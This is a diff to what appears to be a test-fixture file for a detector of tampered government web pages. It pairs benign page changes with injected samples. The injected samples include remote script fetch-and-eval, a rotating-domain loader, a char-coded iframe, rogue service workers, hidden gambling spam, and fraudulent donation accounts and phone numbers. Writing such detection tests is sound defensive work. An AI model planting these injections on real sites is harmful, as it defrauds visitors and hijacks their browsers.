@@ -10,6 +10,7 @@ PAGE = """<html><head><title>云山县人民政府</title></head><body><h1><a hr
 <form action="/search"><input name="q" placeholder="请输入关键字"></form>
 <ul><li><a href="/a/1.html">县政府召开第68次常务会议</a><span>2026-11-26</span></li></ul>
 <p><a href="/u/9.doc">参保登记表</a> 咨询电话：0795-6126655 邮箱：bgs@yunshan.gov.cn</p>
+<p><a href="/z/1.html"><img src="/i/s.jpg" alt="乡村振兴专题"></a></p>
 <p>主办：云山县人民政府 江ICP备05003311号</p></body></html>"""
 
 
@@ -28,7 +29,22 @@ CODED = base64.b64encode(ADDRESS.encode()).decode()
 _LOAD = "var e=document.createElement('script');e.src=%s;document.body.appendChild(e)"
 _ROWS = ",".join(str(ord(letter) ^ 77) for letter in ADDRESS)
 _MOVED = "".join(chr(ord(letter) + 1) for letter in ADDRESS)
+_FRAME, _SPAN = (
+    ",".join(str(ord(letter)) for letter in html)
+    for html in (
+        "<iframe src=http://a.bad.example/ width=100%></iframe>",
+        "<span class=z>网站支持IPv6访问，欢迎您</span>",
+    )
+)
 TOLD_AT_FIRST = {
+    "a program of a stranger, run after something was done to it": script(
+        "fetch('https://p.bad.example/t.txt').then(function(r){return r.text()}).then(function(t){eval(t.slice(3))})"
+    ),
+    "a script from a host that is new every day": script(
+        "var s=document.createElement('script');s.src='//'+n(new Date)+'.top/a.js';document.head.appendChild(s)"
+    ),
+    "words of a trade, torn by what nobody sees": put("<b>百\u200b家\u200b乐\u200b平\u200b台 首存送彩金</b>"),
+    "a frame in codes": script(f"document.write(String.fromCharCode({_FRAME}))"),
     "a worker that stays, from what was sent in": script(
         "navigator.serviceWorker.register('/attach/2026/a.png?x',{scope:'/'}).then(function(){})"
     ),
@@ -226,6 +242,14 @@ TOLD_AT_FIRST = {
 }
 """By what was done."""
 TOLD_AGAINST_THE_BASELINE = {
+    "a telephone that became a mobile one": PAGE.replace("0795-6126655", "17059110382"),
+    "a picture that leads to a stranger": PAGE.replace('<a href="/z/1.html"><img', '<a href="//zt.bad.example/"><img'),
+    "somebody's card to pay into": put(
+        "<li>灾害捐款公告：户名救助服务部 账号6217003300012345678<span>2026/07/06</span></li>"
+    ),
+    "a worker that stays, kept among texts": script(
+        "navigator.serviceWorker.register('/cms/202402/f3c9.js',{scope:'/'})"
+    ),
     "markup in the data of a script": script(
         r"""window.S={'n':[{'t':'x'}],'pop':{'html':'<img src=\"https://a.bad.example/a.gif\">'}}"""
     ),
@@ -278,6 +302,22 @@ TOLD_AGAINST_THE_BASELINE = {
     "called away": put("<p>合作联系 TG:@boss88</p>"),
 }
 HONEST = {
+    "a heading that was pasted together": put("<h2>\ufeff云\u200b山\u200b要\u200b闻</h2>"),
+    "an office's account to pay into": put(
+        "<li>灾害捐款公告：户名云山县红十字会 账号43001500061050001111<span>2026/07/06</span></li>"
+    ),
+    "a line of text in codes": script(f"document.write(String.fromCharCode({_SPAN}))"),
+    "a script from the own host, put together": script(
+        "var s=document.createElement('script');s.src='//'+location.host+'/a.js';document.head.appendChild(s)"
+    ),
+    "counters of a searcher by two ways": script(
+        "var s=document.createElement('script');s.src='//'+(p?'zz':'push')+'.zhanzhang.baidu.com/push.js';f(s)"
+    ),
+    "what the own place answers is read": script(
+        "fetch('/api/notice.json').then(r=>r.json()).then(t=>{document.title=t.title||document.title})"
+    ),
+    "another picture that leads to the own pages": PAGE.replace("/z/1.html", "/z/2.html"),
+    "the number of the hotline alone": PAGE.replace("0795-6126655", "0795-6126655 热线电话：12345"),
     "a worker of its own that stays": script(
         "if('serviceWorker' in navigator){navigator.serviceWorker.register('/sw.js?v=2',{scope:'/'})}"
     ),
